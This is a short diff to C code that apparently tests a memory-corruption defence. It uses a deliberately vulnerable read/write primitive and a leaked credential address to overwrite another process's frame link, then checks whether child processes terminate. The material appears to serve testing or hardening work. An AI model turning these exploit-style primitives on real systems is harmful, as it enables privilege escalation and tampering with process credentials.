@@ -58,7 +58,7 @@ static uint64_t frame_of(pid_t pid)
 {
 	int64_t offset = (int64_t)(pid - getpid()) * CREDENTIAL_BYTES;
 
-	return attack_frame(&leak, leak.credential + (uint64_t)offset);
+	return attack_frame_link(&leak, leak.credential + (uint64_t)offset);
 }
 
 static bool is_ended(pid_t child)
@@ -81,7 +81,7 @@ static void check(int (*body)(void), const char *what)
 	pid_t reaped;
 	int status = 0;
 
-	bw_vuln_write(frame, before + (1ul << 32));
+	bw_vuln_write(frame, before + FRAME_LINK_PREV);
 	shared->go = 1;
 	was_ended = is_ended(child);
 	while ((reaped = waitpid(child, &status, WNOHANG)) == 0) {
@@ -107,7 +107,7 @@ static void check_fork(void)
 	pid_t child = start(exits), second;
 	uint64_t frame = frame_of(child + 1), before = (uint64_t)bw_vuln_read(frame);
 
-	bw_vuln_write(frame, before + (1ul << 32));
+	bw_vuln_write(frame, before + FRAME_LINK_PREV);
 	second = fork();
 	if (second == 0) {
 		_exit(0);
